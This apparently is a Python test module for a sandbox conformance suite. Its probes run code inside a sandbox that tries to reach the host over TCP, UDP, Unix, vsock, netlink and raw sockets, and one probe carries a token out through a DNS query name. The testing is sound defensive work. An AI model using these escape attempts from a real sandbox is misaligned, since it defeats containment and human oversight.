"""Attacks over sockets of every kind; the host listens and must hear nothing."""

import asyncio
import contextlib
import socket
from typing import Any

from hammerstone.sandbox.conformance.canaries import (
    SocketListener,
    host_addresses,
    listening,
    open_folder,
)
from hammerstone.sandbox.conformance.probe import (
    Attack,
    ProbeFinding,
    ProbeStage,
    escaped,
    judge,
    probe,
)

_KNOCK = """
def attack(family, kind, address):
    import socket
    address = tuple(address) if isinstance(address, list) else address
    def knock():
        with socket.socket(family, kind) as s:
            s.settimeout(0.4)
            if kind == socket.SOCK_DGRAM:
                s.sendto(b"hello", address)
                return s.recv(100).decode()
            s.connect(address)
    attempt("knock", knock)
    return report()
"""


def _heard(attack: Attack, ear: SocketListener) -> ProbeFinding:
    if ear.heard:
        return escaped(f"the host's socket was reached from {ear.heard[0]}")
    return judge(attack)


async def _from_inside(stage: ProbeStage, family: int, kind: int, address: Any) -> Attack:
    return await stage.attack(_KNOCK, family=int(family), kind=int(kind), address=address)


async def _knock(stage: ProbeStage, family: int, kind: int, address: object) -> ProbeFinding:
    async with listening(family, kind, address) as ear:
        at = list(ear.address) if isinstance(ear.address, tuple) else ear.address
        attack = await _from_inside(stage, family, kind, at)
        await asyncio.sleep(0.01)
    return _heard(attack, ear)


@probe("connect to a server on the host's loopback", fast=True)
async def tcp_loopback(stage: ProbeStage) -> ProbeFinding:
    return await _knock(stage, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))


@probe("connect to a server on the host's IPv6 loopback")
async def tcp6_loopback(stage: ProbeStage) -> ProbeFinding:
    address = ("::1", 0)
    if not _can_bind(socket.AF_INET6, address):
        return await _create_only(stage, "AF_INET6", socket.SOCK_STREAM)
    return await _knock(stage, socket.AF_INET6, socket.SOCK_STREAM, address)


@probe("connect to this machine's own outer address, and to others on the way out")
async def tcp_outside(stage: ProbeStage) -> ProbeFinding:
    code = """
def attack(addresses):
    import errno, select, socket
    for host, port in addresses:
        def connect(host=host, port=port):
            with socket.socket() as s:
                s.setblocking(False)
                code = s.connect_ex((host, port))
                if code == errno.EINPROGRESS:
                    select.select([], [s], [], 0.3)
                    return "a packet left"
                if code:
                    raise OSError(code, os.strerror(code))
        attempt(f"{host}:{port}", connect)
    return report()
"""
    async with listening(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0)) as ear:  # noqa: S104
        port = ear.address[1]  # type: ignore[index]
        targets = [[host, port] for host in host_addresses()] + [["192.0.2.1", 80], ["127.1", port]]
        attack = await stage.attack(code, addresses=targets)  # type: ignore[arg-type]
    return _heard(attack, ear)


@probe("send a datagram to the host and get an answer")
async def udp_loopback(stage: ProbeStage) -> ProbeFinding:
    return await _knock(stage, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))


@probe("carry data out in a name query")
async def dns_query(stage: ProbeStage) -> ProbeFinding:
    code = """
def attack(token, port):
    import socket, struct
    def ask():
        parts = (token.encode(), b"example", b"com", b"")
        name = b"".join(bytes([len(part)]) + part for part in parts)
        packet = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            for server in (("127.0.0.1", port),):
                s.sendto(packet, server)
                return len(s.recv(512))
    attempt("query", ask)
    attempt("getaddrinfo", lambda: socket.getaddrinfo(token + ".example.com", 80)[0][4])
    return report()
"""
    async with listening(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)) as ear:
        port = ear.address[1]  # type: ignore[index]
        attack = await stage.attack(code, token=stage.token, port=port)
    return _heard(attack, ear)


@probe("connect to a host's socket in the abstract namespace", fast=True)
async def unix_abstract(stage: ProbeStage) -> ProbeFinding:
    async with listening(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{stage.token}") as ear:
        attack = await _from_inside(stage, socket.AF_UNIX, socket.SOCK_STREAM, f"\0{stage.token}")
        await asyncio.sleep(0.01)
    return _heard(attack, ear)


@probe("connect to a host's socket by its path")
async def unix_path(stage: ProbeStage) -> ProbeFinding:
    with open_folder(stage.token) as folder:
        path = folder / "socket"
        async with listening(socket.AF_UNIX, socket.SOCK_STREAM, str(path)) as ear:
            path.chmod(0o777)
            attack = await _from_inside(stage, socket.AF_UNIX, socket.SOCK_STREAM, str(path))
            await asyncio.sleep(0.01)
    return _heard(attack, ear)


@probe("reach the hypervisor or another machine over a virtual-machine socket", fast=True)
async def vsock(stage: ProbeStage) -> ProbeFinding:
    return await _create_only(stage, "AF_VSOCK", socket.SOCK_STREAM)


@probe("talk to the kernel over netlink")
async def netlink(stage: ProbeStage) -> ProbeFinding:
    return await _create_only(stage, "AF_NETLINK", socket.SOCK_RAW)


@probe("make raw and packet sockets")
async def raw_sockets(stage: ProbeStage) -> ProbeFinding:
    code = """
def attack():
    import socket
    for family, kind, protocol in ((2, 3, 1), (10, 3, 58), (17, 3, 768), (17, 2, 768)):
        make = lambda f=family, k=kind, p=protocol: socket.socket(f, k, p).close()
        attempt(f"family {family}", make)
    return report()
"""
    return judge(await stage.attack(code))


@probe("make sockets of rarely used families, each its own way into the kernel")
async def exotic_sockets(stage: ProbeStage) -> ProbeFinding:
    code = """
def attack():
    import socket
    for name, family in (("alg", 38), ("rds", 21), ("bluetooth", 31), ("can", 29), ("tipc", 30),
                         ("xdp", 44), ("kcm", 41), ("qipcrtr", 42), ("smc", 43), ("rxrpc", 33)):
        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM):
            attempt(name, lambda f=family, k=kind: socket.socket(f, k).close())
    return report()
"""
    return judge(await stage.attack(code))


@probe("open a port that the host can connect to")
async def serve_a_port(stage: ProbeStage) -> ProbeFinding:
    code = """
def attack(port):
    import socket
    def serve():
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("0.0.0.0", port))
            s.listen(1)
            s.settimeout(0.5)
            s.accept()
            return "a visitor came"
    attempt("serve", serve)
    return report()
"""
    with socket.socket() as finder:
        finder.bind(("127.0.0.1", 0))
        port = finder.getsockname()[1]
    visit = asyncio.ensure_future(_visit(port))
    attack = await stage.attack(code, port=port)
    visit.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        if await visit:
            return escaped(f"the host could connect to port {port} of the sandbox")
    return judge(attack)


async def _visit(port: int) -> bool:
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.close()
            return True
        await asyncio.sleep(0.02)


async def _create_only(stage: ProbeStage, family: str, kind: int) -> ProbeFinding:
    code = """
def attack(family, kind):
    import socket
    number = {"AF_VSOCK": 40, "AF_NETLINK": 16, "AF_INET6": 10}[family]
    for protocol in (0, 15) if family == "AF_NETLINK" else (0,):
        attempt(f"{family} {protocol}", lambda p=protocol: socket.socket(number, kind, p).close())
    return report()
"""
    return judge(await stage.attack(code, family=family, kind=int(kind)))


def _can_bind(family: int, address: tuple[str, int]) -> bool:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as server:
            server.bind(address)
    except OSError:
        return False
    return True


PROBES = (
    tcp_loopback,
    tcp6_loopback,
    tcp_outside,
    udp_loopback,
    dns_query,
    unix_abstract,
    unix_path,
    vsock,
    netlink,
    raw_sockets,
    exotic_sockets,
    serve_a_port,
)
